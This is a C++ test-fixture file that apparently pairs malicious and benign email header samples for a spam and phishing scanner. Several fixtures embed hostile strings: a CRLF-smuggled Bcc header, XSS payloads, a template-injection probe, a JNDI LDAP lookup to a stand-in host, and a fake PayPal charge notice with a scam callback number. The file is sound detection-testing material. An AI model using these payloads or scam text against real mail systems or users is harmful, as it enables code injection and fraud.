#include "tests/scan/fixtures.h"

namespace scan_fixture {

std::vector<Fixture> header_fixtures()
{
    return {
        { "HDR_DUP_UNIQUE", { .extra = "Subject: Another\r\n" },
            { .extra = "Received: from a.example by b.example\r\n"
                       "Received: from b.example by c.example\r\n" } },
        { "HDR_SUBJECT_OBFUSCATED", { .subject = "=?utf-8?Q?Your_P=D0=B0yment?=" },
            { .subject = "=?utf-8?Q?Gr=C3=BC=C3=9Fe_=D0=BF=D1=80=D0=B8?=" } },
        { "HDR_DATE_MSGID", { .date = "Mon, 09 Nov 2026 08:00:00 +0000" },
            { .date = "Tue, 03 Nov 2026 08:00:00 +0000" } },
        { "HDR_INJECTION", { .subject = "=?utf-8?Q?Notes=0D=0ABcc:_x@y.example?=" },
            { .subject = "=?utf-8?Q?Notes_of_Monday?=" } },
        { "HDR_URL_IN_IDENTITY", { .from = "\"www.offers.com\" <ann@supplier.example>" },
            { .from = "\"Offers of Ann\" <ann@supplier.example>" } },
        { "HDR_TRIAGE_SPOOF", { .forged_fields = true }, { .extra = "X-Spam-Status: No\r\n" } },
        { "HDR_BACKSCATTER",
            { .from = "Mail Delivery System <report@supplier.example>",
                .html = "<p>Your mail waits: <a href=\"https://other.com/x\">see it</a></p>" },
            { .from = "Mail Delivery System <report@supplier.example>",
                .html = "<p>Your mail waits: <a href=\"https://www.supplier.example/x\">see it</a>"
                        "</p>" } },
        { "HDR_SERVICE", { .from = "Ann by Example Sign <dse@docusign.net>" },
            { .from = "\"docusign.net\" <ann@supplier.example>" } },
        { "HDR_SERVICE_ABUSE",
            { .from = "service <service@paypal.com>",
                .text
                = "Your Norton subscription was charged with $399.00. If you did not authorize "
                  "this, call +1 (888) 555-0100.",
                .mail_from = "service@paypal.com" },
            { .from = "service <service@paypal.com>",
                .text = "You sent a payment of $39.00 to Supplier Ltd. If you did not authorize "
                        "this, call +1 (888) 555-0100.",
                .mail_from = "service@paypal.com" } },
        { "HDR_XSS_PAYLOAD", { .file = "a <img src=x onerror=alert(1)>.txt" },
            { .file = "a (img on error).txt" } },
        { "HDR_XSS_PAYLOAD", { .subject = "Notes {{7*7}} and ${jndi:ldap://x.example/a}" },
            { .subject = "Notes for {{first_name}}, ${amount} due" } },
        { "HDR_XSS_PAYLOAD", { .subject = "Notes <svg onload=alert(1)>" },
            { .from = "Body Shop <body@supplier.example>",
                .subject = "Notes on <b> and on load" } },
        { "HDR_MUA_FORGED", { .extra = "X-PHP-Originating-Script: 1:x.php(2) : eval()'d\r\n" },
            { .extra = "X-Mailer: Thunderbird\r\n" } },
    };
}

} // namespace scan_fixture
